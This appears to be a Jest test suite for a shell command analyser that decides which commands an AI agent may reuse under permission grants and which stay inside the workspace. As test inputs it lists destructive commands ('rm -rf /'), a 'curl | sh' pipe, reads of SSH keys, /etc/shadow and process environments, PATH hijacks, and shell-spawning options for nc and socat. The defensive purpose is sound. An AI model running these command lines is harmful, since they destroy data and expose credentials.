import { analyseCommandLine, describeCommandKeys, disguisingCharacters } from './command-line';

const keysOf = (line: string): (string | null)[] => {
  const analysis = analyseCommandLine(line);
  if (!analysis.reusable) {
    throw new Error(`expected ${JSON.stringify(line)} to be reusable, got: ${analysis.reason}`);
  }
  return analysis.commands.map((command) => command.key);
};

const reasonOf = (line: string): string => {
  const analysis = analyseCommandLine(line);
  if (analysis.reusable) {
    throw new Error(`expected ${JSON.stringify(line)} to be refused, got keys ${JSON.stringify(analysis.commands.map((c) => c.key))}`);
  }
  return analysis.reason;
};

const confinementOf = (line: string): boolean[] => analyseCommandLine(line).commands.map((command) => command.confined);

/** How grants cover a line: reusable, and every command granted by its key and confined to the workspace. */
const coveredByGrants =
  (...granted: string[]) =>
  (line: string): boolean => {
    const analysis = analyseCommandLine(line);
    return (
      analysis.reusable &&
      analysis.commands.length > 0 &&
      analysis.commands.every((command) => command.key !== null && command.confined && granted.includes(command.key))
    );
  };

describe('analyseCommandLine', () => {
  describe('reusable lines and their grant keys', () => {
    it('`ls && git status` is reusable with keys ["ls", "git status"]', () => {
      expect(analyseCommandLine('ls && git status')).toEqual({
        reusable: true,
        commands: [
          { program: 'ls', args: [], key: 'ls', confined: true },
          { program: 'git', args: ['status'], key: 'git status', confined: true },
        ],
      });
    });

    it.each([
      ['ls', ['ls']],
      ['ls -la /tmp', ['ls']],
      ['git diff --stat HEAD~1', ['git diff']],
      ['npm test', ['npm test']],
      ['npm run build', ['npm run build']],
      ['npm run-script build', ['npm run-script build']],
      ['pnpm run test:unit', ['pnpm run test:unit']],
      ['yarn run lint --fix', ['yarn run lint']],
      ['yarn build', ['yarn build']],
      ['make build', ['make build']],
      ['docker ps -a', ['docker ps']],
      ['cargo test --release', ['cargo test']],
      ['/usr/bin/git status', ['/usr/bin/git status']],
      ['go1.22 build ./...', ['go1.22 build']],
      ['cat a.txt | grep x | wc -l', ['cat', 'grep', 'wc']],
      ['ls; pwd', ['ls', 'pwd']],
      ['ls || echo missing', ['ls', 'echo']],
      ['sleep 1 & ls', ['sleep', 'ls']],
      ['ls |& grep x', ['ls', 'grep']],
      ['ls;', ['ls']],
      ['ls &', ['ls']],
      ['ls\npwd', ['ls', 'pwd']],
      ['\nls\n\npwd\n', ['ls', 'pwd']],
      ['ls &&\n  pwd', ['ls', 'pwd']],
      ['ls |\ngrep x', ['ls', 'grep']],
      ['cd sub && \\\n  ls -la', ['cd', 'ls']],
      ['/usr/bin/ls', ['/usr/bin/ls']],
      ['/opt/tools/build.sh --fast', ['/opt/tools/build.sh']],
      ["'l''s'", ['ls']],
      ['l\\s', ['ls']],
      ['"ls" -la', ['ls']],
      ['ls 2>&1', ['ls']],
      ['ls > /dev/null', ['ls']],
      ['ls >/dev/null 2>&1', ['ls']],
      ['ls 2>/dev/null', ['ls']],
      ["ls > '/dev/null'", ['ls']],
      ['ls &>/dev/null', ['ls']],
      ['ls >&2', ['ls']],
      ['ls 1>&2', ['ls']],
      ['ls 2>&-', ['ls']],
      ['ls <&0', ['ls']],
      ['>/dev/null ls', ['ls']],
      ['grep x < input.txt', ['grep']],
      ['echo "$HOME" ${USER} $1 $? $@', ['echo']],
      ["echo 'a;b|c&&d $(x) `y`' \"e;f\"", ['echo']],
      ['echo a#b', ['echo']],
      ['echo $ cost', ['echo']],
      ['ls *.ts src/{a,b} ~/x', ['ls']],
      ['printf "%s\\n" x', ['printf']],
      ['test -f x', ['test']],
      ['docker compose ps', ['docker compose']],
      ['kubectl get pods', ['kubectl get']],
      ['git push -u origin main', ['git push']],
      ['git log --oneline', ['git log']],
      ['sort -u a.txt', ['sort']],
      ['make build', ['make build']],
    ])('%j → %j', (line, keys) => {
      expect(keysOf(line)).toEqual(keys);
    });

    it('removes quotes from the program and arguments, and keeps expansions as written', () => {
      const analysis = analyseCommandLine(`echo 'a b' "c\\"d" e\\ f "\\$x" "a\\\\b" "\\q" $HOME "it's" ''`);
      expect(analysis.commands).toEqual([
        { program: 'echo', args: ['a b', 'c"d', 'e f', '$x', 'a\\b', '\\q', '$HOME', "it's", ''], key: 'echo', confined: false },
      ]);
    });

    it('`git diff` does not have the key of `git push`', () => {
      expect(keysOf('git diff')).toEqual(['git diff']);
      expect(keysOf('git push')).toEqual(['git push']);
      expect(coveredByGrants('git diff')('git push origin main')).toBe(false);
    });

    it('`npm run build` and `npm run deploy` have different keys', () => {
      expect(keysOf('npm run build')).toEqual(['npm run build']);
      expect(keysOf('npm run deploy')).toEqual(['npm run deploy']);
      expect(coveredByGrants('npm run build')('npm run deploy')).toBe(false);
    });

    it('a path is not the same key as the bare program name', () => {
      expect(keysOf('/bin/ls')).toEqual(['/bin/ls']);
      expect(coveredByGrants('ls')('/bin/ls')).toBe(false);
    });
  });

  describe('lines that offer no reusable grant', () => {
    it.each([
      ['', 'the command line is empty'],
      ['   ', 'the command line is empty'],
      ['\n\n', 'the command line is empty'],
      ['ls $(rm x)', 'it uses command substitution ($(...))'],
      ['echo "$(rm x)"', 'it uses command substitution ($(...))'],
      ['echo $((1 + 2))', 'it uses arithmetic expansion ($((...)))'],
      ['echo $[1 + 2]', 'it uses arithmetic expansion ($((...)))'],
      ['ls `rm x`', 'it uses command substitution (backticks)'],
      ['echo "`rm x`"', 'it uses command substitution (backticks)'],
      ['diff <(ls a) <(ls b)', 'it uses process substitution (<(...) or >(...))'],
      ['ls >(cat)', 'it uses process substitution (<(...) or >(...))'],
      ['cat <<EOF\nx\nEOF', 'it uses a heredoc (<<)'],
      ['cat <<-EOF', 'it uses a heredoc (<<)'],
      ['ls <<EOF', 'it uses a heredoc (<<)'],
      ['cat <<< x', 'it uses a here-string (<<<)'],
      ['(ls)', 'it uses a subshell or grouping ((...))'],
      ['ls; (rm x)', 'it uses a subshell or grouping ((...))'],
      ['ls !(x)', 'it uses a subshell or grouping ((...))'],
      ['{ ls; }', 'it uses command grouping ({ ...; })'],
      ['ls # ; rm', 'it contains a comment (#), which hides what follows from a reader'],
      ['ls;#x', 'it contains a comment (#), which hides what follows from a reader'],
      ["echo 'x", 'it has an unterminated quote'],
      ['echo "x', 'it has an unterminated quote'],
      ['echo ${X', 'it has an unterminated ${...}'],
      ["echo $'\\x41'", 'it uses $\'...\' or $"..." quoting'],
      ['echo $"x"', 'it uses $\'...\' or $"..." quoting'],
      ['echo ${X:-y}', 'it uses a parameter expansion that cannot be checked (`${X:-y}`)'],
      ['echo ${X:=y}', 'it uses a parameter expansion that cannot be checked (`${X:=y}`)'],
      ['echo ${!x}', 'it uses a parameter expansion that cannot be checked (`${!x}`)'],
      ['echo "${a[PATH=1]}"', 'it uses a parameter expansion that cannot be checked (`${a[PATH=1]}`)'],
      ['ls \\', 'it ends with a backslash'],
      ['l\\\ns', 'it continues a line (backslash-newline) in the middle of a word'],
      ['echo $\\\n(rm x)', 'it continues a line (backslash-newline) in the middle of a word'],
      ['echo "$\\\n(rm x)"', 'it continues a line (backslash-newline) inside double quotes'],
      ['ls {fd}>/dev/null', 'it stores a file descriptor in a variable ({name}>...)'],
      ['> /dev/null', 'it has a command made only of redirections'],
      ['ls && < x', 'it has a command made only of redirections'],
      ['X=1 ls', 'it sets variables for the command (X=1 ...)'],
      ['X=1', 'it sets variables for the command (X=1 ...)'],
      ['LD_PRELOAD=x ls', 'it sets variables for the command (X=1 ...)'],
      ['a[0]=1 ls', 'it sets variables for the command (X=1 ...)'],
      ['PATH+=:. ls', 'it sets variables for the command (X=1 ...)'],
      ["'X=1' ls", 'the program name "X=1" has characters that cannot be granted'],
      ['! ls', 'it negates a command (!)'],
      ['ls | ! grep x', 'it negates a command (!)'],
      ['if true; then ls; fi', 'it uses shell control syntax (`if`)'],
      ['for f in a; do ls; done', 'it uses shell control syntax (`for`)'],
      ['while true; do ls; done', 'it uses shell control syntax (`while`)'],
      ['[[ -f x ]]', 'it uses shell control syntax (`[[`)'],
      ['function f { ls; }', 'it uses command grouping ({ ...; })'],
      ['coproc ls', 'it uses shell control syntax (`coproc`)'],
      ['[ -f x ]', 'it uses a test expression ([ ... ]), which cannot be granted'],
      ['$CMD', 'the program is named by a variable (`$CMD`)'],
      ['"$CMD" x', 'the program is named by a variable (`$CMD`)'],
      ['${CMD} x', 'the program is named by a variable (`${CMD}`)'],
      ['l* x', 'the program name `l*` uses a wildcard'],
      ['l? x', 'the program name `l?` uses a wildcard'],
      ['{ls,-la}', 'the program name `{ls,-la}` uses brace expansion'],
      ["'l s'", 'the program name "l s" has characters that cannot be granted'],
      ["ls';'rm", 'the program name "ls;rm" has characters that cannot be granted'],
      ["''", 'the program name is empty'],
      ['; ls', 'it has an empty command before `;`'],
      ['ls ;; ls', 'it has an empty command before `;`'],
      ['| ls', 'it has an empty command before `|`'],
      ['ls && && pwd', 'it has an empty command before `&&`'],
      ['ls & ;', 'it has an empty command before `;`'],
      ['ls\n;', 'it has an empty command before `;`'],
      ['ls &&', 'it ends with `&&`'],
      ['ls ||\n', 'it ends with `||`'],
      ['ls |', 'it ends with `|`'],
      ['ls > out.txt', 'it writes to a file (`> out.txt`)'],
      ['ls >> f', 'it writes to a file (`>> f`)'],
      ['ls 2> err.txt', 'it writes to a file (`2> err.txt`)'],
      ['ls 1>f', 'it writes to a file (`1> f`)'],
      ['ls &> f', 'it writes to a file (`&> f`)'],
      ['ls &>> f', 'it writes to a file (`&>> f`)'],
      ['ls >| f', 'it writes to a file (`>| f`)'],
      ['ls >& f', 'it writes to a file (`>& f`)'],
      ['ls <> f', 'it writes to a file (`<> f`)'],
      ['ls > /dev/null2', 'it writes to a file (`> /dev/null2`)'],
      ['ls > $OUT', 'it writes to a file (`> $OUT`)'],
      ['ls 2>&1 > f', 'it writes to a file (`> f`)'],
      ['ls >', 'it has a redirection (`>`) without a target'],
      ['ls > ; rm x', 'it has a redirection (`>`) without a target'],
      ['cat < /dev/tcp/example.com/80', 'it opens a network connection (`< /dev/tcp/example.com/80`)'],
      ['cat < $F', 'it reads from a file named by an expansion or wildcard (`< $F`)'],
      ['cat <&file', 'it redirects input from something other than a file descriptor (`<& file`)'],
      ['ls\r', 'it contains control characters'],
      ['ls \u001b[2K', 'it contains control characters'],
      ['echo \u202e', 'it contains bidirectional text controls, which can disguise what it runs'],
    ])('%j: %s', (line, reason) => {
      expect(reasonOf(line)).toBe(reason);
    });

    it.each([
      'eval', 'exec', 'source', '.', 'env', 'sudo', 'su', 'doas', 'sh', 'bash', 'zsh', 'dash', 'ksh', 'fish', 'csh', 'tcsh',
      'xargs', 'nohup', 'nice', 'ionice', 'timeout', 'time', 'command', 'builtin', 'watch', 'strace', 'ltrace', 'chroot',
      'setsid', 'stdbuf', 'flock', 'parallel', 'script', 'unbuffer', 'busybox', 'npx', 'trap',
    ])('`%s` runs other commands, so it has no key', (program) => {
      const analysis = analyseCommandLine(`ls && ${program} x`);
      expect(analysis).toEqual({
        reusable: false,
        reason: `\`${program}\` runs other commands`,
        commands: [
          { program: 'ls', args: [], key: 'ls', confined: true },
          { program, args: ['x'], key: null, confined: true },
        ],
      });
    });

    it.each([
      ['/bin/bash -c ls', '`/bin/bash` runs other commands'],
      ['BASH -c ls', '`BASH` runs other commands'],
      ['\\bash -c ls', '`bash` runs other commands'],
      ["'sudo' ls", '`sudo` runs other commands'],
      ['bash5.2 -c ls', '`bash5.2` runs other commands'],
      ['python3 -c "print(1)"', '`python3` runs code given to it'],
      ['python3.12 script.py', '`python3.12` runs code given to it'],
      ['node x.js', '`node` runs code given to it'],
      ['awk 1 f', '`awk` runs code given to it'],
      ['export PATH=/tmp; ls', '`export` changes how later commands run'],
      ['read PATH < f', '`read` changes how later commands run'],
      ['set -k', '`set` changes how later commands run'],
      ['alias ls=rm', '`alias` changes how later commands run'],
      ['hash -p /tmp/x ls', '`hash` changes how later commands run'],
    ])('%j: %s', (line, reason) => {
      expect(reasonOf(line)).toBe(reason);
    });

    it.each([
      ['printf -v PATH /tmp; ls', '`printf -v` sets a shell variable'],
      ['printf -vPATH /tmp', '`printf -vPATH` sets a shell variable'],
      ['test -v x', '`test -v` evaluates a variable name, which can run code'],
      ['wait -np pid', '`wait -np` sets a shell variable'],
      ['printf "$FORMAT"', '`printf` with arguments that expand could set shell variables'],
      ['printf * x', '`printf` with arguments that expand could set shell variables'],
      ['test -f "$x"', '`test` with arguments that expand could set shell variables'],
    ])('builtins that can set variables: %j', (line, reason) => {
      expect(reasonOf(line)).toBe(reason);
    });

    it.each([
      ['find . -name x', '`find` can run other commands (-exec, -ok; -delete and -fprint change files)'],
      ['find . -exec rm {} +', '`find` can run other commands (-exec, -ok; -delete and -fprint change files)'],
      ['ssh host ls', '`ssh` can run other commands (on another machine, or locally through -o ProxyCommand)'],
      ['scp a host:b', '`scp` can run other commands (-S, -o ProxyCommand)'],
      ['sftp host', '`sftp` can run other commands (-S, -o ProxyCommand)'],
      ['rsync -e sh a b', '`rsync` can run other commands (-e, --rsync-path)'],
      ['tar xf a.tar --to-command=sh', '`tar` can run other commands (--to-command, -I, --use-compress-program, --checkpoint-action, -F)'],
      ['zip -TT sh a.zip a', '`zip` can run other commands (-TT)'],
      ['vim -c "!sh" x', '`vim` can run other commands (:!, -c)'],
      ['vi x', '`vi` can run other commands (:!, -c)'],
      ['nvim x', '`nvim` can run other commands (:!, -c)'],
      ['ex x', '`ex` can run other commands (:!, -c)'],
      ['view x', '`view` can run other commands (:!, -c)'],
      ['nano x', '`nano` can run other commands (--speller, ^T)'],
      ['ed x', '`ed` can run other commands (!)'],
      ['man -P sh ls', '`man` can run other commands (-P, -H, --pager)'],
      ['less x', '`less` can run other commands (!, LESSOPEN)'],
      ['sqlite3 db .shell', '`sqlite3` can run other commands (.shell, .system)'],
      ['psql -c x', '`psql` can run other commands (\\!)'],
      ['nc -e sh host 1', '`nc` can run other commands (-e, -c)'],
      ['socat - EXEC:sh', '`socat` can run other commands (EXEC:, SYSTEM:)'],
      ['toybox sh', '`toybox` runs other commands'],
      ['gdb -ex run x', '`gdb` runs other commands'],
      ['lldb x', '`lldb` runs other commands'],
      ['tmux new sh', '`tmux` runs other commands'],
      ['xdg-open x', '`xdg-open` runs other commands'],
      ['emacs --eval x', '`emacs` runs code given to it'],
      ['R -e 1', '`R` runs code given to it'],
      ['Rscript x.R', '`Rscript` runs code given to it'],
      ['expect x', '`expect` runs code given to it'],
      ['tclsh x', '`tclsh` runs code given to it'],
      ['wish x', '`wish` runs code given to it'],
      ['lua5.4 x', '`lua5.4` runs code given to it'],
      ['php x', '`php` runs code given to it'],
      ['julia x', '`julia` runs code given to it'],
      ['sed -n 1p x', '`sed` runs code given to it'],
      ['m4 x', '`m4` runs code given to it'],
      ['java X.java', '`java` runs code given to it'],
    ])('programs that run other programs: %j', (line, reason) => {
      expect(reasonOf(line)).toBe(reason);
      expect(analyseCommandLine(line).commands[0].key).toBeNull();
    });

    it.each([
      ['./build.sh', '`./build.sh` is a file in the workspace the agent can change'],
      ['./build.sh --fast', '`./build.sh` is a file in the workspace the agent can change'],
      ['scripts/x', '`scripts/x` is a file in the workspace the agent can change'],
      ['bin/tool a', '`bin/tool` is a file in the workspace the agent can change'],
      ['../x', '`../x` is a file in the workspace the agent can change'],
      ['~/bin/x', '`~/bin/x` is a file in the workspace the agent can change'],
      ['ls && ./ls', '`./ls` is a file in the workspace the agent can change'],
    ])('programs named by a relative path: %j', (line, reason) => {
      expect(reasonOf(line)).toBe(reason);
      expect(analyseCommandLine(line).commands.at(-1)?.key).toBeNull();
    });

    it.each([
      ['docker compose exec web sh', '`docker compose exec web sh` runs other programs (`exec`)'],
      ['docker compose run web sh', '`docker compose run web sh` runs other programs (`run`)'],
      ['docker container exec c sh', '`docker container exec c sh` runs other programs (`exec`)'],
      ['docker container run img', '`docker container run img` runs other programs (`run`)'],
      ['docker container create img sh', '`docker container create img sh` runs other programs (`create`)'],
      ['docker attach c', '`docker attach` runs other programs'],
      ['docker debug c', '`docker debug` runs other programs'],
      ['docker exec c sh', '`docker exec` runs other programs'],
      ['podman container exec c sh', '`podman container exec c sh` runs other programs (`exec`)'],
      ['docker-compose exec web sh', '`docker-compose exec` runs other programs'],
      ['docker-compose ps exec', '`docker-compose ps exec` runs other programs (`exec`)'],
      ['kubectl debug pod', '`kubectl debug` runs other programs'],
      ['kubectl attach pod', '`kubectl attach` runs other programs'],
      ['kubectl run x --image=y', '`kubectl run` runs other programs'],
      ['oc rsh pod', '`oc rsh` runs other programs'],
      ['git grep -O x', '`git grep` runs other programs'],
      ['git grep x', '`git grep` runs other programs'],
      ['git difftool', '`git difftool` runs other programs'],
      ['git bisect run x', '`git bisect` runs other programs'],
      ['git submodule foreach x', '`git submodule` runs other programs'],
      ['git rebase --exec x main', '`git rebase` runs other programs'],
      ['go run main.go', '`go run` runs other programs'],
      ['uv run x', '`uv run` runs other programs'],
      ['git clone --upload-pack=x a b', '`git --upload-pack` runs other programs'],
      ['git fetch --upload=x origin', '`git --upload` runs other programs'],
      ['git push --receive-pack=x origin', '`git --receive-pack` runs other programs'],
      ['git clone -u x a b', '`git clone -u` runs other programs'],
      ['git clone -qc core.sshCommand=x a b', '`git clone -qc` runs other programs'],
      ['sort --compress-program=sh a', '`sort --compress-program` runs other programs'],
      ['sort --compress-prog sh a', '`sort --compress-prog` runs other programs'],
      ['split --filter=sh a', '`split --filter` runs other programs'],
      ['wget --use-askpass=sh x', '`wget --use-askpass` runs other programs'],
      ['make build --eval=x', '`make --eval` runs other programs'],
      ['make build -E x', '`make -E` runs other programs'],
      ['npm test --script-shell=python3', '`npm --script-shell` runs other programs'],
      // A file named `--compress-program=sh` (touch -- --compress-program=sh) would be read as the option.
      ['sort -S 1K - *', '`sort` can be told to run other programs, and `*` may expand to such an option (put it after `--`)'],
      ['sort {--compress-program=sh,a}', '`sort` can be told to run other programs, and `{--compress-program=sh,a}` may expand to such an option (put it after `--`)'],
      ['git clone ?u a b', '`git` can be told to run other programs, and `?u` may expand to such an option (put it after `--`)'],
    ])('subcommands, words and options that run other programs: %j', (line, reason) => {
      expect(reasonOf(line)).toBe(reason);
      expect(analyseCommandLine(line).commands[0].key).toBeNull();
    });

    it.each(['git push -u origin main', 'git clone --depth 1 a b', 'sort -c a', 'make build -j4', 'docker ps --filter name=runner', 'sort -- *.txt', 'ls *'])(
      '%j keeps its key: nothing in it runs another program',
      (line) => {
        expect(analyseCommandLine(line).reusable).toBe(true);
      },
    );

    it.each([
      ['git', '`git` without a subcommand cannot be granted'],
      ['make', '`make` without a subcommand cannot be granted'],
      ['git -C x status', '`git -C x status`: options before the subcommand cannot be granted'],
      ['git -c core.pager=sh status', '`git -c core.pager=sh status`: options before the subcommand cannot be granted'],
      ['git --no-pager log', '`git --no-pager log`: options before the subcommand cannot be granted'],
      ['git $SUB', '`git $SUB`: the subcommand `$SUB` is not a plain word'],
      ['git "st*"', '`git st*`: the subcommand `st*` is not a plain word'],
      ['make CC=sh', '`make CC=sh`: the subcommand `CC=sh` is not a plain word'],
      ['npm run', '`npm run` without a script name cannot be granted'],
      ['npm run -s build', '`npm run -s build`: options before the script name cannot be granted'],
      ['npm run $S', '`npm run $S`: the script name `$S` is not a plain word'],
      ['npm exec foo', '`npm exec` runs other programs'],
      ['npm x foo', '`npm x` runs other programs'],
      ['npm init foo', '`npm init` runs other programs'],
      ['pnpm dlx foo', '`pnpm dlx` runs other programs'],
      ['pnpm exec foo', '`pnpm exec` runs other programs'],
      ['yarn dlx foo', '`yarn dlx` runs other programs'],
      ['yarn exec foo', '`yarn exec` runs other programs'],
      ['docker exec c rm -rf /', '`docker exec` runs other programs'],
      ['bundle exec rake', '`bundle exec` runs other programs'],
    ])('programs with subcommands: %j', (line, reason) => {
      expect(reasonOf(line)).toBe(reason);
    });
  });

  describe('confinement to the workspace', () => {
    it.each([
      'cat notes/a.md',
      'grep -r foo .',
      'grep -r x .',
      'ls',
      'ls -la src',
      'wc -l notes/*.md',
      'ls *',
      'cat ./a.md',
      'cat a..b',
      'ls {a,b}',
      'git log HEAD~1',
      'grep --include=*.ts -rn x src',
      'grep -e x a.txt',
      'cat a.txt 2>&1 >/dev/null',
      'cat a.txt 2>/dev/null',
      'grep x < input.txt',
      'cat < /dev/null',
      'git clone git@host:org/repo',
      'echo a,b',
      'ls -I node_modules',
      "cat 'my notes/a.md'",
    ])('%j is confined', (line) => {
      expect(confinementOf(line)).toEqual([true]);
    });

    it.each([
      ['cat /proc/$PPID/environ', 'absolute, and an expansion'],
      ['cat /proc/1/environ', 'absolute'],
      ['cat ~/.ssh/id_rsa', 'under HOME'],
      ['cat ~', 'HOME'],
      ['ls ..', 'the parent folder'],
      ['ls ../other', 'above the working folder'],
      ['cat a/../../x', 'above the working folder'],
      ['cat a/..', 'a `..` segment'],
      ["cat '../x'", 'quoted, still above'],
      ['head --file=/etc/passwd', 'an option value that is absolute'],
      ['grep --file=~/x y', 'an option value under HOME'],
      ['tar --directory=.. x', 'an option value that is the parent'],
      ['head -f/etc/passwd', 'a short option with an absolute value'],
      ['make build -C..', 'a short option with the parent as value'],
      ['gcc -I/usr/include x.c', 'a short option with an absolute value'],
      ['echo $HOME', 'an expansion'],
      ['echo "${USER}"', 'an expansion'],
      ["echo '$5'", 'a dollar, even quoted'],
      ['cat .*/x', '`.*` matches `..`'],
      ['cat .?/x', '`.?` matches `..`'],
      ['cat [.][.]/x', 'a bracket pattern where `..` could be'],
      ['ls {.,x}./y', 'brace expansion can form `..`'],
      ['ls {,/}etc', 'brace expansion can form `/etc`'],
      ['ls {x,~}/y', 'brace expansion can form `~/y`'],
      ['ls src/{a,b}', 'braces beside a `/` (conservative)'],
      ['curl file:///etc/passwd', 'a URL'],
      ['curl https://example.com', 'a URL (the network is outside too)'],
      ['rsync a host:/etc', 'a remote absolute path'],
      ['cat a,/etc/passwd', 'a list with an absolute item'],
      ['cat < ../secret', 'an input file above the working folder'],
      ['cat < /etc/passwd', 'an absolute input file'],
      ['grep x a.txt < ~/.netrc', 'an input file under HOME'],
    ])('%j is not confined (%s)', (line) => {
      expect(confinementOf(line)).toEqual([false]);
    });

    it('is judged per command, and keeps the key', () => {
      expect(analyseCommandLine('cat notes/a.md && cat /etc/passwd | grep x')).toEqual({
        reusable: true,
        commands: [
          { program: 'cat', args: ['notes/a.md'], key: 'cat', confined: true },
          { program: 'cat', args: ['/etc/passwd'], key: 'cat', confined: false },
          { program: 'grep', args: ['x'], key: 'grep', confined: true },
        ],
      });
    });

    it('does not count the program: `/usr/bin/ls` keeps its key as written and is confined', () => {
      expect(analyseCommandLine('/usr/bin/ls -la')).toEqual({
        reusable: true,
        commands: [{ program: '/usr/bin/ls', args: ['-la'], key: '/usr/bin/ls', confined: true }],
      });
    });

    it('a grant of `cat` does not cover reading outside the workspace', () => {
      const coveredByCat = coveredByGrants('cat', 'ls', 'grep');
      expect(coveredByCat('cat notes/a.md')).toBe(true);
      expect(coveredByCat('grep -r x .')).toBe(true);
      expect(coveredByCat('cat /proc/1/environ')).toBe(false);
      expect(coveredByCat('cat /proc/$PPID/environ')).toBe(false);
      expect(coveredByCat('ls ../other')).toBe(false);
      expect(coveredByCat('cat ~/.ssh/id_rsa')).toBe(false);
      expect(coveredByCat('cat notes/a.md; cat < /etc/shadow')).toBe(false);
    });
  });

  describe('best-effort commands on refused lines', () => {
    it('lists every command, with null keys where a command can never be granted', () => {
      const analysis = analyseCommandLine('ls && git -C x status | sh');
      expect(analysis.commands.map((command) => [command.program, command.key])).toEqual([
        ['ls', 'ls'],
        ['git', null],
        ['sh', null],
      ]);
    });

    it('keeps the key of a command refused only for its redirection', () => {
      expect(analyseCommandLine('ls > out.txt')).toEqual({
        reusable: false,
        reason: 'it writes to a file (`> out.txt`)',
        commands: [{ program: 'ls', args: [], key: 'ls', confined: true }],
      });
    });

    it('gives no commands when the line cannot be split into commands', () => {
      expect(analyseCommandLine('ls && echo $(rm x)').commands).toEqual([]);
    });
  });

  describe('bypass attempts when `ls` is granted', () => {
    const coveredByLs = coveredByGrants('ls');

    it.each([
      'ls; rm -rf /',
      'ls && rm x',
      'ls || rm x',
      'ls | sh',
      'ls & rm x',
      'ls $(rm x)',
      'ls `rm x`',
      'ls\nrm x',
      'ls > out.txt',
      'ls >> f',
      'ls 2> err.txt',
      'ls &> f',
      'bash -c "ls"',
      'env X=1 ls',
      'X=1 ls',
      'ls <<EOF',
      '$CMD',
      '(ls)',
      '{ ls; }',
      'ls # ; rm',
      '/bin/ls',
      './ls',
      'echo "$(rm x)"',
      'ls "$(rm x)"',
      "ls $'\\'' ; rm -rf / #'",
      'ls $\\\n(rm x)',
      'ls "$\\\n(rm x)"',
      'l\\\ns; rm x',
      'printf -v PATH /tmp/evil; ls',
      'export PATH=/tmp/evil; ls',
      'ls {PATH}>/dev/null; ls',
      'ls; LS',
      'ls -la /tmp',
      'ls ..',
      'ls ~',
      'ls .*/',
      'ls --color=auto /',
    ])('%j is not covered', (line) => {
      expect(coveredByLs(line)).toBe(false);
    });

    it.each(["'l''s'", 'l\\s', '"ls"', 'ls 2>&1', 'ls > /dev/null', 'ls -la src', 'ls;', 'ls\n'])('%j means `ls` and is covered', (line) => {
      expect(coveredByLs(line)).toBe(true);
    });

    it('`ls && ls` is covered: every command on it is granted', () => {
      expect(coveredByLs('ls && ls -a')).toBe(true);
    });
  });

  it('`ls && curl x | sh` is refused because of `sh`, and grants {ls, git status} do not cover it', () => {
    expect(reasonOf('ls && curl x | sh')).toBe('`sh` runs other commands');
    const covered = coveredByGrants('ls', 'git status');
    expect(covered('ls && git status')).toBe(true);
    expect(covered('ls && curl x | sh')).toBe(false);
    expect(covered('ls && curl x')).toBe(false);
  });

  it('gives every command a key whenever the line is reusable', () => {
    const lines = ['ls', 'ls && git status', 'a | b | c', 'npm run x; make y & z', '/x; /y/z'];
    for (const line of lines) {
      const analysis = analyseCommandLine(line);
      expect(analysis.reusable).toBe(true);
      expect(analysis.commands.length).toBeGreaterThan(0);
      expect(analysis.commands.every((command) => command.key !== null)).toBe(true);
    }
  });
});

describe('disguisingCharacters', () => {
  it.each([
    ['ls -la\n\tpwd', null],
    ['echo héllo ✓', null],
    ['ls\r', 'control'],
    ['ls \u001b[2K', 'control'],
    ['ls \u0000', 'control'],
    ['ls \u007f', 'control'],
    ['ls \u009b', 'control'],
    ['echo \u202e', 'bidi'],
    ['echo \u2066x\u2069', 'bidi'],
    ['echo \u200f', 'bidi'],
    ['echo \u061c', 'bidi'],
  ])('%j → %s', (line, found) => {
    expect(disguisingCharacters(line)).toBe(found);
  });
});

describe('describeCommandKeys', () => {
  it.each([
    [['ls'], '`ls` (any arguments inside the workspace)'],
    [['ls', 'git status'], '`ls` and `git status` (any arguments inside the workspace)'],
    [['ls', 'git status', 'npm run build'], '`ls`, `git status` and `npm run build` (any arguments inside the workspace)'],
    [['ls', 'ls', 'pwd'], '`ls` and `pwd` (any arguments inside the workspace)'],
    [[], 'no commands'],
  ])('%j → %j', (keys, description) => {
    expect(describeCommandKeys(keys)).toBe(description);
  });
});
